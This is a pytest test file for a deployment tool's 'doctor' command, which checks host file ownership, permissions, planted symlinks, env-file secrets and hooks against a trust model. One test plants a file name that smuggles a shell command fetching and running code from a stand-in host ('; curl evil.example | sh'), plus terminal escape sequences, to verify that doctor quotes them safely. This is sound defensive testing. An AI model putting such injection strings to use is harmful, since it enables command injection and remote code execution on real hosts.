"""`bluegreen doctor` against the trust model of docs/security.md: the pure judgements of who may change what
root runs or nginx loads, then a real host seeded with each breach (a world-writable included directory, a
directory nginx loads owned by another user, a symlinked hook, a hooks directory owned by another user, a 0644
env file, a symlinked LOG_DIR) that doctor must name with its fix, and that passes once the fixes are applied."""

from __future__ import annotations

import os
import pwd
import re
import secrets
import shlex
import stat
import subprocess
import sys
from pathlib import Path

import pytest

import stack as stacklib
from bluegreen import doctor
from bluegreen.doctor import FAIL, INFO, OK, WARN, Node

TRUSTED = frozenset({"root", "deploy"})


def node(path="/opt/deploy/nginx/conf.d", kind="dir", mode=0o755, owner="root", group="root", members=("root",), **kw):
    return Node(path, kind, mode=mode, owner=owner, group=group, group_members=tuple(members), **kw)


# -- pure: who can write --------------------------------------------------------------------------------------

@pytest.mark.parametrize("n, ancestor, who", [
    (node(), False, []),
    (node(owner="deploy", group="deploy", members=("deploy",), mode=0o775), False, []),  # setup's layout
    (node(owner="bob"), False, ["bob (owner)"]),  # an owner can always chmod
    (node(mode=0o775, group="devs", members=("deploy", "alice")), False, ["group devs (alice)"]),
    (node(mode=0o777), False, ["everyone"]),
    (node(path="/tmp", mode=0o1777), True, []),  # sticky ancestor: nobody but its owner can replace our entry
    (node(path="/srv", mode=0o1777), False, ["everyone"]),  # sticky but included: anyone can add a *.conf
    (node(path="/opt", mode=0o777), True, ["everyone"]),
    (node(kind="symlink", mode=0o777), False, []),  # a symlink's mode means nothing
    (node(kind="missing", owner=""), False, []),
])
def test_untrusted_writers(n, ancestor, who):
    assert doctor.untrusted_writers(n, TRUSTED, ancestor=ancestor) == who


def test_a_group_writable_hook_fails_even_when_its_group_is_trusted():
    # A deploy as root refuses a group-writable hook whoever is in the group: doctor says so before it does.
    hook = node("/opt/deploy/hooks/api/pre-deploy", "file", mode=0o775, owner="deploy", group="deploy", members=("deploy",))
    assert doctor.untrusted_writers(hook, TRUSTED) == []
    assert doctor.untrusted_writers(hook, TRUSTED, any_group=True) == ["group deploy (deploy)"]
    check = doctor.judge_writers("hooks", "hooks", [(hook, False)], TRUSTED, "deploy", "WHY", any_group=True)
    assert check.status == FAIL and "sudo chmod go-w /opt/deploy/hooks/api/pre-deploy" in check.fix


def test_a_world_writable_included_directory_is_a_failure_with_its_fix():
    check = doctor.judge_writers("deploy root", "/opt/deploy", [(node(path="/opt", mode=0o755), True),
                                                                 (node(mode=0o777), False)], TRUSTED, "deploy", "WHY")
    assert check.status == FAIL
    assert "/opt/deploy/nginx/conf.d by everyone" in check.detail and check.detail.endswith("WHY")
    assert check.fix == "sudo chmod go-w /opt/deploy/nginx/conf.d (docs/security.md)"


def test_a_directory_nginx_loads_owned_by_another_user_is_a_failure():
    check = doctor.judge_writers("nginx config", "nginx", [(node(path="/etc/nginx/conf.d", owner="bob"), False)],
                                 TRUSTED, "deploy", "WHY")
    assert check.status == FAIL and "/etc/nginx/conf.d by bob (owner)" in check.detail
    assert "sudo chown deploy /etc/nginx/conf.d" in check.fix
    parent = doctor.judge_writers("deploy root", "/opt/deploy", [(node(path="/opt", owner="bob", mode=0o775), True)],
                                  TRUSTED, "deploy", "WHY")
    assert parent.status == FAIL and parent.fix == "sudo chown root /opt && sudo chmod go-w /opt (docs/security.md)"


def test_the_deploy_roots_owner_writing_the_upstream_directory_is_by_design():
    # setup gives ROOT/nginx/conf.d to the deploy user: that makes it root-equivalent, which the info line
    # says once; a WARN on every correctly set-up host would teach people to ignore warnings.
    conf_d = node(owner="deploy", group="deploy", members=("deploy",), mode=0o755)
    assert doctor.judge_writers("deploy root", "/opt/deploy", [(conf_d, False)], TRUSTED, "deploy", "WHY").status == OK
    info = doctor.judge_root_equivalent("/opt/deploy", "deploy", ["ec2-user", "ci"])
    assert info.status == INFO and "deploy (owns /opt/deploy" in info.detail and "docker group: ec2-user, ci" in info.detail
    assert doctor.judge_root_equivalent("/opt/deploy", "root", []).detail == "only root can change what root runs here"


def test_info_lines_neither_fail_nor_warn():
    checks = [doctor.Check("root-equiv", INFO, "x"), doctor.Check("python", OK, "y")]
    assert doctor.verdict(checks) == 0
    lines = doctor.render([("host:", checks)])
    assert lines[1].split()[0] == "info" and lines[-1] == "Ready to deploy: 2 checks, 0 warning(s)."


# -- pure: planted files, secrets, LOG_DIR ---------------------------------------------------------------------------

def test_planted_files_are_named_with_what_they_are():
    assert doctor.judge_odd_files([], "/opt/deploy").status == OK
    check = doctor.judge_odd_files([
        Node("/opt/deploy/projects/api.lock", "symlink", target="/etc/shadow"),
        Node("/opt/deploy/projects/api.active", "fifo"),
        Node("/opt/deploy/projects/api.journal", "file", nlink=2),
    ], "/opt/deploy")
    assert check.status == FAIL
    assert "/opt/deploy/projects/api.lock is a symlink to /etc/shadow" in check.detail
    assert "api.active is a FIFO" in check.detail and "api.journal has 2 hard links" in check.detail
    assert "sudo rm /opt/deploy/projects/api.lock" in check.fix


@pytest.mark.parametrize("mode, owner, group, members, status, words", [
    (0o600, "root", "root", ("root",), OK, "readable only by"),
    (0o640, "deploy", "deploy", ("deploy",), OK, "mode 640"),  # init's mode, group of the deploy user alone
    (0o644, "root", "root", ("root",), WARN, "readable by everyone"),
    (0o640, "root", "staff", ("alice",), WARN, "readable by group staff (alice)"),
    (0o600, "bob", "bob", ("bob",), FAIL, "can be changed by bob (owner)"),
    (0o666, "root", "root", ("root",), FAIL, "root-equivalent"),
])
def test_env_file_secrets_and_who_controls_what_runs(mode, owner, group, members, status, words):
    check = doctor.judge_env_secrets(node("/opt/deploy/projects/api.env", "file", mode, owner, group, members), TRUSTED, "deploy")
    assert check.status == status and words in check.detail
    if status != OK:
        assert "sudo chmod 600 /opt/deploy/projects/api.env" in check.fix


@pytest.mark.parametrize("n, status, words", [
    (node("/app/logs", "missing", owner=""), OK, "docker creates it"),
    (node("/app/logs", owner="deploy"), OK, "owned by deploy"),
    (node("/app/logs", "symlink", target="/etc"), WARN, "symlink to /etc"),
    (node("/app/logs", "fifo"), WARN, "not a directory"),
    (node("/app/logs", owner="bob"), WARN, "owned by bob"),
    (node("/app/logs", mode=0o777), WARN, "writable by everyone"),
    (node("/app/logs", mode=0o1777), OK, "owned by root"),
])
def test_log_dir(n, status, words):
    check = doctor.judge_log_dir(n, TRUSTED, "deploy")
    assert check.status == status and words in check.detail
    if n.owner == "bob":
        assert check.fix == "sudo chown deploy /app/logs"


def test_what_nginx_loads_is_read_from_its_dump():
    dump = (
        "# configuration file /etc/nginx/nginx.conf:\n"
        "http {\n    include mime.types;\n    include /opt/deploy/nginx/conf.d/*.conf;\n"
        "    # include /never/*.conf;\n    include \"/etc/nginx/sites-enabled/*\";\n}\n"
        "# configuration file /etc/nginx/mime.types:\ntypes {}\n"
    )
    files, dirs = doctor.nginx_loaded_paths(dump)
    assert files == ["/etc/nginx/nginx.conf", "/etc/nginx/mime.types"]
    assert dirs == ["/etc/nginx", "/opt/deploy/nginx/conf.d", "/etc/nginx/sites-enabled"]
    assert doctor.nginx_loaded_paths("") == ([], [])
    assert doctor.ancestors("/opt/deploy/nginx") == ["/", "/opt", "/opt/deploy"]


def test_odd_files_are_found_without_following_links(tmp_path):
    (tmp_path / "projects").mkdir()
    (tmp_path / "projects" / "a.env").write_text("IMAGE=x\n")
    os.link(tmp_path / "projects" / "a.env", tmp_path / "projects" / "b.env")
    os.mkfifo(tmp_path / "projects" / "a.active")
    outside = tmp_path / "outside"
    (outside / "deep").mkdir(parents=True)
    os.symlink("/nonexistent", outside / "deep" / "x")
    os.symlink(outside, tmp_path / "projects" / "link")  # never descended into
    found = doctor.find_odd_files([str(tmp_path / "projects")])
    assert [(Path(n.path).name, n.kind) for n in found] == [("a.active", "fifo"), ("a.env", "file"), ("b.env", "file"), ("link", "symlink")]
    assert found[-1].target == str(outside)


# -- real: a host that breaks the model, then fixed with the printed fixes ------------------------------------------

@pytest.fixture
def host(stack, tmp_path):
    """A root owned by root with one project, and a private nginx that includes ROOT/nginx/conf.d and its own sites dir."""
    tmp_path.chmod(0o755)  # nginx workers run as nobody
    root = tmp_path / "root"
    for d in ("projects", "nginx/conf.d", "hooks"):
        (root / d).mkdir(parents=True)
    nginx = stacklib.Nginx(str(tmp_path / "nginx"), includes=[str(root / "nginx" / "conf.d" / "*.conf")])
    nginx.start()
    try:
        yield root, nginx
    finally:
        nginx.stop()


def run_doctor(stack, root: Path, nginx, project: str, expect: int) -> str:
    env = dict(stack.base_env(), BLUEGREEN_ROOT=str(root), BLUEGREEN_NGINX=shlex.join(nginx.cmd),
               BLUEGREEN_NGINX_CONF_DIR=nginx.sites_dir, DOCKER_CONFIG=str(root / "no-docker-config"))
    proc = subprocess.run([sys.executable, stack.pyz, "doctor", project], env=env, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, text=True, timeout=120)
    out = re.sub(r" +", " ", proc.stdout)
    assert proc.returncode == expect and "Traceback" not in proc.stderr, out + proc.stderr
    return out


def test_doctor_flags_a_host_that_breaks_the_trust_model(stack, host):
    root, nginx = host
    name = "trust-" + secrets.token_hex(3)
    nobody = pwd.getpwnam("nobody")
    conf_d, sites, hooks, logs = root / "nginx" / "conf.d", Path(nginx.sites_dir), root / "hooks" / name, root.parent / "logs"
    env = root / "projects" / f"{name}.env"
    env.write_text(f"IMAGE={stack.image_repo}\nBLUE_PORT={stacklib.free_port()}\nGREEN_PORT={stacklib.free_port() + 1}\n"
                   f"LOG_DIR={logs}\nDB_PASSWORD=s3cret\n")
    env.chmod(0o644)
    conf_d.chmod(0o777)  # any user could add a *.conf that nginx's root master loads
    os.chown(sites, nobody.pw_uid, nobody.pw_gid)  # another user owns a directory nginx loads
    hooks.mkdir()
    os.chown(hooks, nobody.pw_uid, nobody.pw_gid)  # and the hooks that run as the deploying user
    (root / "hooks").chmod(0o775)  # group root alone, but a deploy as root refuses any group-writable hooks dir
    os.symlink("/etc/passwd", hooks / "pre-deploy")
    (root.parent / "real-logs").mkdir()
    os.symlink(root.parent / "real-logs", logs)

    out = run_doctor(stack, root, nginx, name, expect=1)
    assert f"FAIL deploy root {root} (projects, nginx/conf.d, hooks) can be changed by others: {conf_d} by everyone." in out
    assert f"fix: sudo chmod go-w {conf_d} (docs/security.md)" in out
    assert f"FAIL nginx config what nginx loads (1 files; {sites}) can be changed by others: {sites} by nobody (owner)" in out
    assert f"fix: sudo chown root {sites} (docs/security.md)" in out
    assert f"FAIL planted files {hooks}/pre-deploy is a symlink to /etc/passwd" in out
    assert f"fix: remove it (`sudo rm {hooks}/pre-deploy`" in out
    assert f"FAIL hooks hooks in {hooks} can be changed by others: {root / 'hooks'} by group root (root); {hooks} by nobody (owner)" in out
    assert f"WARN env secrets {env} holds the app's secrets and is readable by everyone\n fix: sudo chmod 600 {env}\n" in out
    assert f"WARN LOG_DIR {logs} is a symlink to {root.parent / 'real-logs'}" in out
    assert re.search(r"info root-equiv (only root can change|by design, root-equivalent)", out)
    assert "s3cret" not in out
    # The fifth: the pre-deploy hook itself, judged by the very rule a deploy applies before running it.
    assert "A deploy refuses to run it." in out
    assert "5 problem(s) would make a deploy fail" in out

    # The fixes doctor printed, applied as printed (as root, so without sudo).
    assert f"fix: sudo chmod go-w {root / 'hooks'}; sudo chown root {hooks} (docs/security.md)" in out
    for fix in (f"chmod go-w {conf_d}", f"chown root {sites}", f"rm {hooks}/pre-deploy", f"chown root {hooks}", f"chmod go-w {root / 'hooks'}",
                f"chmod 600 {env}", f"rm {logs}", f"mkdir {logs}"):
        subprocess.run(shlex.split(fix), check=True)
    out = run_doctor(stack, root, nginx, name, expect=0)
    for line in ("deploy root", "nginx config", "program", "planted files", "hooks", "env secrets", "LOG_DIR"):
        assert re.search(rf"^ ok {line} ", out, re.MULTILINE), (line, out)
    assert "FAIL" not in out
    assert stat.S_IMODE(env.stat().st_mode) == 0o600


def test_planted_state_files_are_listed_not_a_reason_to_stop(stack, host, tmp_path):
    # Before: doctor stopped at the first planted file with exit 2 (the safe-file layer's refusal) and
    # checked nothing else; a FIFO must not block it either.
    root, nginx = host
    name = "planted-" + secrets.token_hex(3)
    vault = tmp_path / "vault"
    vault.mkdir(mode=0o700)
    decoy = vault / "root-only"
    decoy.write_text("root's file\n")
    decoy.chmod(0o600)
    projects = root / "projects"
    env = projects / f"{name}.env"
    env.write_text(f"IMAGE={stack.image_repo}\nBLUE_PORT={stacklib.free_port()}\nGREEN_PORT={stacklib.free_port() + 1}\nLOG_DIR=\n")
    env.chmod(0o600)
    os.symlink(decoy, projects / f"{name}.lock")
    os.mkfifo(projects / f"{name}.active")
    os.symlink(decoy, root / "nginx" / "conf.d" / f"{name}-upstream.conf")

    out = run_doctor(stack, root, nginx, name, expect=1)
    assert f"FAIL planted files {root}/nginx/conf.d/{name}-upstream.conf is a symlink to {decoy}; " \
           f"{projects}/{name}.active is a FIFO; {projects}/{name}.lock is a symlink to {decoy}: " in out
    assert f"FAIL upstream {root}/nginx/conf.d/{name}-upstream.conf is a symlink (to {decoy}): a deploy refuses to use it" in out
    assert f"FAIL lock {projects}/{name}.lock is a symlink (to {decoy}): a deploy refuses to use it" in out
    assert "ok env secrets" in out and "ok blue port" in out  # the other checks still ran
    assert decoy.read_text() == "root's file\n" and stat.S_IMODE(decoy.stat().st_mode) == 0o600


# -- the docker client config: the user's file, still read safely ---------------------------------------------

@pytest.mark.parametrize("config", [{"credHelpers": ["ghcr.io"]}, {"auths": 5}, {"auths": None, "credHelpers": "x"}, {}])
def test_registry_login_survives_any_shape_of_config(config):
    # Before: a list or a number where a mapping belongs raised AttributeError/TypeError (exit 4, internal error).
    assert doctor.judge_credentials("ghcr.io/acme/api", config, "c").status == WARN


def test_docker_config_that_is_a_fifo_or_huge_or_deep_never_blocks_or_crashes(tmp_path):
    env = {"DOCKER_CONFIG": str(tmp_path)}
    path = tmp_path / "config.json"
    os.mkfifo(path)  # before: open() blocked here forever
    assert doctor._docker_config(env) == (None, str(path))
    path.unlink()
    path.write_text("[" * 100000 + "]" * 100000)  # before: RecursionError
    assert doctor._docker_config(env)[0] is None
    path.write_text('{"auths": {"ghcr.io": {}}, "pad": "' + "x" * (2 << 20) + '"}')
    assert doctor._docker_config(env)[0] is None
    path.write_text('{"auths": {"ghcr.io": {}}}')
    assert doctor._docker_config(env)[0] == {"auths": {"ghcr.io": {}}}


def test_a_program_another_user_can_replace_is_a_failure(stack, host, tmp_path):
    # `sudo bluegreen` runs the pyz as root: a copy in a directory another user owns hands them root.
    root, nginx = host
    nobody = pwd.getpwnam("nobody")
    bindir = tmp_path / "bin"
    bindir.mkdir()
    pyz = bindir / "bluegreen.pyz"
    pyz.write_bytes(Path(stack.pyz).read_bytes())
    os.chown(bindir, nobody.pw_uid, nobody.pw_gid)
    env = dict(stack.base_env(), BLUEGREEN_ROOT=str(root), BLUEGREEN_NGINX=shlex.join(nginx.cmd),
               BLUEGREEN_NGINX_CONF_DIR=nginx.sites_dir)
    proc = subprocess.run([sys.executable, str(pyz), "doctor"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                          text=True, timeout=120)
    out = re.sub(r" +", " ", proc.stdout)
    assert proc.returncode == 1, out + proc.stderr
    assert f"FAIL program {pyz} can be changed by others: {bindir} by nobody (owner). It runs as root under sudo" in out
    assert f"fix: sudo chown root {bindir} (docs/security.md)" in out


def test_planted_names_never_reach_the_terminal_or_a_fix_as_they_are(tmp_path):
    # A name is chosen by whoever planted it: doctor's fix lines are pasted as root, so they must quote it,
    # and escape sequences must not reach the terminal.
    evil = "/opt/deploy/hooks/api/x; curl evil.example | sh \x1b[2J"
    check = doctor.judge_odd_files([Node(evil, "symlink", target="/etc/\x1b]0;owned\x07")], "/opt/deploy")
    assert "\x1b" not in check.detail + check.fix
    assert "`sudo rm '/opt/deploy/hooks/api/x; curl evil.example | sh \\x1b[2J'`" in check.fix
    writable = doctor.judge_writers("hooks", "hooks", [(node(evil, "file", mode=0o666), False)], TRUSTED, "deploy", "WHY")
    assert "sudo chmod go-w '/opt/deploy/hooks/api/x; curl evil.example | sh \\x1b[2J'" in writable.fix
    assert "\x1b" not in writable.detail + writable.fix
    log = doctor.judge_log_dir(node("/app/logs", "symlink", target="/x\n\x1b[31m"), TRUSTED, "deploy")
    assert "\x1b" not in log.detail and "\n" not in log.detail


def test_render_escapes_control_characters_from_any_source():
    # e.g. a lock file's holder name or a command's output: only line breaks get through.
    lines = doctor.render([("p:", [doctor.Check("lock", FAIL, "held by \x1b[2Jevil\nsecond line", "fix \x07it")])])
    assert lines[1].endswith("held by \\x1b[2Jevil\nsecond line") and lines[2].endswith("fix: fix \\x07it")


def test_doctor_fails_a_hook_a_deploy_would_refuse(tmp_path):
    """doctor applies the deploy's own hook rule: a symlinked hook is a FAIL there, not only under planted files."""
    import os

    from bluegreen import doctor
    from bluegreen.config import load_project, load_settings

    (tmp_path / "projects").mkdir()
    env = tmp_path / "projects" / "api.env"
    env.write_text("IMAGE=reg/x\n")
    os.chmod(env, 0o600)
    hooks = tmp_path / "hooks" / "api"
    hooks.mkdir(parents=True)
    os.symlink("/etc/passwd", hooks / "pre-deploy")
    settings = load_settings(str(tmp_path), {}, euid=0)
    checks = doctor.project_trust_checks(settings, "api", load_project(settings, "api"))
    refused = [c for c in checks if c.name == "hooks" and c.status == doctor.FAIL]
    assert refused and "is a symlink (to /etc/passwd)" in refused[0].detail and "A deploy refuses to run it" in refused[0].detail
